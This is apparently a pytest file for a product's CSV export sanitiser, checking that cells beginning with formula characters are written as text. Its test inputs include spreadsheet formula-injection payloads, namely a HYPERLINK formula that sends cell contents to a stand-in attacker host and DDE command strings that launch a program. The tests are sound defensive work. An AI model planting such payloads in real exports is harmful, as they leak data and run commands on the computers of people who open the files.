"""Every CSV export opens in a spreadsheet as text: no cell can run as a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from hotline.lib.csvsafe import safe_cell, writer

HOTLINE = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://attacker.invalid/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-", "=",
])
def test_a_cell_that_would_run_is_written_as_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-3.5", "+12", "-0.500", "1e-5", "-2E+3", "plain text",
                                   "https://example.test/=x", "", "<10", 42, -7, 1.5, None])
def test_numbers_and_ordinary_text_are_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def test_the_writer_neutralises_every_cell_and_stays_valid_csv() -> None:
    out = io.StringIO()
    w = writer(out)
    w.writerow(["name", "=1+1"])
    w.writerows([["@x", -3], ['a "quoted", cell', "-4.25"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "'=1+1"], ["'@x", "-3"], ['a "quoted", cell', "-4.25"]]


def test_every_csv_writer_of_the_product_is_this_one() -> None:
    writers = [str(path.relative_to(HOTLINE)) for path in HOTLINE.rglob("*.py")
               if "tests" not in path.parts and path.name != "csvsafe.py"
               and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())]
    assert writers == []
